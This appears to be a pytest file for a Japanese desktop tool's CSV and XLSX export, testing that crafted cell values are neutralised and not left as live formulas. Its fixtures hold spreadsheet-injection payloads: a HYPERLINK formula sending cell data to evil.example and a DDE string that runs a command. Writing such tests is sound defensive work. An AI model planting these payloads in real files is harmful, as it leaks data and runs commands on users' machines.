"""The 取りまとめ list from the command line (the same rows as the window's), and no live formula in either format:
a crafted 評価書名 such as =HYPERLINK(...) stays text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pia_desktop.cli.main import main
from pia_desktop.domain.exchange import read_document
from pia_desktop.shared.portfolio import COLUMNS, csv_safe, portfolio, to_csv, write_xlsx
from pia_desktop.storage.store import Store
from tests.conftest import fixture_path

HOSTILE = {
    "cover.hyokasho_mei": '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    "cover.kikan_mei": "+cmd|' /C calc'!A0",
    "cover.hyokasho_no": "-2+3",
}


@pytest.fixture
def crafted_store(tmp_path: Path) -> Path:
    path = tmp_path / "s.sqlite3"
    doc = read_document(fixture_path("seed-003"))
    for address, value in HOSTILE.items():
        doc.set(address, value)
    with Store(path) as store:
        store.add_document(doc)
        other = read_document(fixture_path("seed-001"))
        other.set("cover.hyokasho_mei", "@SUM(1+1)\t")
        store.add_document(other)
        store.add_document(read_document(fixture_path("seed-000")))
    return path


def test_csv_safe_prefixes_what_would_start_a_formula() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert csv_safe(text) == "'" + text
    for text in ("児童手当", "1", "", "a=b", "令和7年"):
        assert csv_safe(text) == text


def test_csv_has_no_cell_that_starts_a_formula(crafted_store: Path) -> None:
    with Store(crafted_store, readonly=True) as store:
        rows = portfolio(store)
    parsed = list(csv.reader(io.StringIO(to_csv(rows))))
    cells = [c for row in parsed[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + HOSTILE["cover.hyokasho_mei"] in cells and "'" + HOSTILE["cover.kikan_mei"] in cells


def test_xlsx_has_no_formula_cell_and_keeps_the_text(crafted_store: Path, tmp_path: Path) -> None:
    with Store(crafted_store, readonly=True) as store:
        rows = portfolio(store)
    out = tmp_path / "list.xlsx"
    write_xlsx(rows, out)
    ws = load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert HOSTILE["cover.hyokasho_mei"] in values and HOSTILE["cover.kikan_mei"] in values  # as typed, as text
    assert [tmp_path / "list.xlsx"] == [p for p in tmp_path.iterdir() if p.name.startswith("list")]  # no .tmp left


def test_cli_portfolio_writes_the_windows_rows(crafted_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with Store(crafted_store, readonly=True) as store:
        expected = portfolio(store)
    out_csv, out_xlsx = tmp_path / "一覧.csv", tmp_path / "一覧.xlsx"
    assert main(["store", "portfolio", str(out_csv), "--store", str(crafted_store)]) == 0
    assert main(["store", "portfolio", str(out_xlsx), "--store", str(crafted_store)]) == 0
    assert "評価書 3 件" in capsys.readouterr().out
    text = out_csv.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff") and text[1:] == to_csv(expected)
    ws = load_workbook(out_xlsx).active
    got = [[("" if v is None else str(v)) for v in row] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert [list(r) for r in ws.iter_rows(max_row=1, values_only=True)] == [list(COLUMNS)]
    assert got == [r.cells() for r in expected]
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_cli_portfolio_refuses_other_suffixes_and_missing_stores(tmp_path: Path, crafted_store: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["store", "portfolio", str(tmp_path / "list.txt"), "--store", str(crafted_store)]) == 2
    assert ".csv 又は .xlsx" in capsys.readouterr().err
    assert main(["store", "portfolio", str(tmp_path / "l.csv"), "--store", str(tmp_path / "none.sqlite3")]) == 2
    assert "見つかりません" in capsys.readouterr().err
    assert not (tmp_path / "list.txt").exists() and not (tmp_path / "none.sqlite3").exists()
